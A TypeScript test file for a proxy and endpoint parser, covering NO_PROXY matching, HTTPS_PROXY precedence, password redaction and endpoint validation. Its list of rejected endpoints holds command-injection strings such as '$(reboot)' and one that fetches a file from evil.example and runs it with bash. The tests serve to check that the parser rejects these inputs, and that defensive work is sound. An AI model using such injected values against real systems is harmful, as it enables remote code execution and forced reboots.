import { isIP } from 'node:net';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { parseEndpoint } from '../../src/wire/endpoint.ts';
import { goesThroughProxy, parseProxy, proxyFromEnvironment } from '../../src/wire/proxy/proxy-environment.ts';

const proxied = (noProxy: string, host: string, port = 443) => goesThroughProxy(noProxy, { host, port });

describe('NO_PROXY', () => {
  // The first rows are those of Go's own table (golang.org/x/net/http/httpproxy, TestUseProxy), with its NO_PROXY.
  const go =
    'foobar.com, .barbaz.net, *.wildcard.io, 192.168.1.1, 192.168.1.2:81, 192.168.1.3:80, 10.0.0.0/30, 2001:db8::52:0:1, [2001:db8::52:0:2]:443, [2001:db8::52:0:3]:80, 2002:db8:a::45/64';
  test.each([
    ['localhost', 80, false],
    ['127.0.0.1', 80, false],
    ['127.0.0.2', 80, false],
    ['::1', 80, false],
    ['::2', 80, true],
    ['192.168.1.1', 80, false],
    ['192.168.1.2', 80, true],
    ['192.168.1.2', 81, false],
    ['192.168.1.3', 80, false],
    ['192.168.1.4', 80, true],
    ['10.0.0.2', 80, false],
    ['2001:db8::52:0:1', 80, false],
    ['2001:db8::52:0:2', 443, false],
    ['2001:db8::52:0:3', 80, false],
    ['2001:db8::52:0:2', 80, true],
    ['2002:db8:a::123', 80, false],
    ['fe80::424b:c8be:1643:a1b6', 80, true],
    ['barbaz.net', 80, true],
    ['www.barbaz.net', 80, false],
    ['foobar.com', 80, false],
    ['www.foobar.com', 80, false],
    ['foofoobar.com', 80, true],
    ['baz.com', 80, true],
    ['localhost.net', 80, true],
    ['local.localhost', 80, true],
    ['barbarbaz.net', 80, true],
    ['wildcard.io', 80, true],
    ['nested.wildcard.io', 80, false],
    ['awildcard.io', 80, true],
  ])('%s:%d through the proxy: %s', (host, port, expected) => {
    expect(proxied(go, host, port)).toBe(expected);
  });

  test.each([
    ['*', 'a.example', 443, false],
    ['x,*,y', '10.1.1.1', 443, false],
    ['', 'a.example', 443, true],
    [' , ,', 'a.example', 443, true],
    [':443', 'a.example', 443, true],
    ['A.Example', 'a.example', 443, false],
    ['a.example:6443', 'A.EXAMPLE', 6443, false],
    ['a.example:6443', 'a.example', 443, true],
    ['10.0.0.0/8', 'ten.example', 443, true],
    ['10.0.0.0/33', '10.0.0.1', 443, true],
    ['0.0.0.1/8', '0.9.9.9', 443, false],
    ['::ffff:10.0.0.1', '10.0.0.1', 443, false],
    ['1.2.3.4', '1.2.3.45', 443, true],
    ['.B\u00fccher.example', 'a.xn--bcher-kva.example', 443, false],
    ['b\u00fccher\u3002example', 'xn--bcher-kva.example', 443, false],
    ['_\u00fc.example', 'xn--_-eha.example', 443, true],
    // Soft hyphens, as a word processor puts them in (found by the fuzzer).
    ['.ex\u00adam\u00adple', 'a.example', 443, false],
  ])('"%s" for %s:%d: %s', (noProxy, host, port, expected) => {
    expect(proxied(noProxy, host, port)).toBe(expected);
  });

  test('never throws, and an entry for a host always matches it', () => {
    const host = fc.oneof(fc.domain(), fc.ipV4(), fc.ipV6());
    fc.assert(fc.property(fc.string(), host, (text, name) => typeof proxied(text, name) === 'boolean'));
    fc.assert(
      fc.property(
        fc.array(fc.string({ maxLength: 8 })),
        host,
        (others, name) => !proxied([...others, name].join(','), name),
      ),
    );
    fc.assert(
      fc.property(
        fc.ipV4(),
        fc.integer({ min: 0, max: 32 }),
        (address, bits) => !proxied(`${address}/${bits}`, address),
      ),
    );
    fc.assert(fc.property(fc.domain(), (name) => !proxied(`.${name}`, `sub.${name}`) && proxied(`.${name}`, name)));
  });
});

describe('the proxy', () => {
  const target = { host: 'api.example', port: 6443 };
  // The order is that of kubeadm 1.37.2, seen with two proxies and with two lists that differ.
  test('comes from HTTPS_PROXY before https_proxy, never from HTTP_PROXY', () => {
    expect(proxyFromEnvironment({ HTTP_PROXY: 'http://a', http_proxy: 'http://b' }, target)).toBeUndefined();
    expect(proxyFromEnvironment({ HTTPS_PROXY: 'http://a:1', https_proxy: 'http://b:2' }, target)?.endpoint).toEqual({
      host: 'a',
      port: 1,
    });
    expect(proxyFromEnvironment({ HTTPS_PROXY: '', https_proxy: 'http://b:2' }, target)?.endpoint).toEqual({
      host: 'b',
      port: 2,
    });
    expect(proxyFromEnvironment({ HTTPS_PROXY: 'http://a:1', no_proxy: 'api.example' }, target)).toBeUndefined();
    expect(proxyFromEnvironment({ HTTPS_PROXY: 'http://a:1', NO_PROXY: '.example' }, target)).toBeUndefined();
  });

  test('NO_PROXY comes before no_proxy', () => {
    const by = (NO_PROXY: string, no_proxy: string) =>
      proxyFromEnvironment({ HTTPS_PROXY: 'http://a:1', no_proxy, NO_PROXY }, target);
    expect(by('api.example', 'elsewhere.example')).toBeUndefined();
    expect(by('elsewhere.example', 'api.example')?.endpoint).toEqual({ host: 'a', port: 1 });
    expect(by('', 'api.example')).toBeUndefined();
  });

  test.each([
    ['proxy:3128', 'http', 'proxy', 3128],
    ['proxy', 'http', 'proxy', 80],
    ['10.0.0.1:3128', 'http', '10.0.0.1', 3128],
    ['https://proxy', 'https', 'proxy', 443],
    ['http://[fd00::1]:8080/', 'http', 'fd00::1', 8080],
  ])('%s', (value, protocol, host, port) => {
    expect(parseProxy(value, 'HTTPS_PROXY')).toMatchObject({ protocol, endpoint: { host, port } });
  });

  test('its password is decoded and never shown', () => {
    const proxy = parseProxy('http://user:p%40ss@proxy:1', 'HTTPS_PROXY');
    expect(proxy.userInfo?.reveal()).toBe('user:p@ss');
    expect(JSON.stringify(proxy)).not.toContain('ss');
    expect(() => parseProxy('socks5://user:secret@proxy:1', 'HTTPS_PROXY')).toThrow(
      expect.not.objectContaining({ message: expect.stringContaining('secret') }),
    );
    expect(() => parseProxy('http://user:secret@', 'HTTPS_PROXY')).toThrow(
      expect.objectContaining({ code: 'PROXY_UNUSABLE' }),
    );
  });
});

describe('endpoints', () => {
  test.each([
    ['10.0.0.1', '10.0.0.1', 6443],
    ['10.0.0.1:443', '10.0.0.1', 443],
    ['fd00::1', 'fd00::1', 6443],
    ['[fd00::1]', 'fd00::1', 6443],
    ['[fd00::1]:1', 'fd00::1', 1],
    ['api.Example', 'api.example', 6443],
    ['https://api.example:8443/', 'api.example', 8443],
    ['https://api.example', 'api.example', 6443],
    ['my_host.a-b.', 'my_host.a-b.', 6443],
    ['bücher.example', 'xn--bcher-kva.example', 6443],
    [`${'a'.repeat(63)}.b`, `${'a'.repeat(63)}.b`, 6443],
  ])('%s', (text, host, port) => {
    expect(parseEndpoint(text, 6443)).toEqual({ host, port });
  });
  test.each([
    '',
    ':1',
    'a:0',
    'a:65536',
    'a:x',
    'http://a',
    'a/b',
    'u@a',
    'u:p@a:1',
    '1.2.3',
    '[1.2.3.4]',
    'a b',
    'a?b',
    '[::1',
    'a:1:2',
    '-a',
    'a-',
    'a..b',
    '*.a',
    `${'a'.repeat(64)}.b`,
    `${'a.'.repeat(126)}bc`,
    ...['$(reboot)', '%24(reboot)', '[fe80::1%$(reboot)]:1', 'a;{curl,-oa,evil.example};{bash,a};b:6443'],
    ...['a&b', 'a;b', "a'b", 'a"b', 'a`b`', 'a!b', 'a{b,c}', 'a=b', 'a~b', 'a+b'],
  ])('"%s" is none', (text) => {
    expect(parseEndpoint(text, 6443)).toBeUndefined();
  });
  test('every address and port comes back', () => {
    fc.assert(
      fc.property(fc.oneof(fc.ipV4(), fc.ipV6(), fc.domain()), fc.integer({ min: 1, max: 65535 }), (host, port) => {
        const written = isIP(host) === 6 ? `[${host}]:${port}` : `${host}:${port}`;
        const read = parseEndpoint(written, 6443);
        return read?.port === port && read.host === host.toLowerCase();
      }),
    );
    fc.assert(
      fc.property(fc.string(), (text) => {
        const read = parseEndpoint(text, 6443);
        return read === undefined || (read.port > 0 && read.port < 65536 && /^[\w:.%-]+$/.test(read.host));
      }),
    );
  });
});
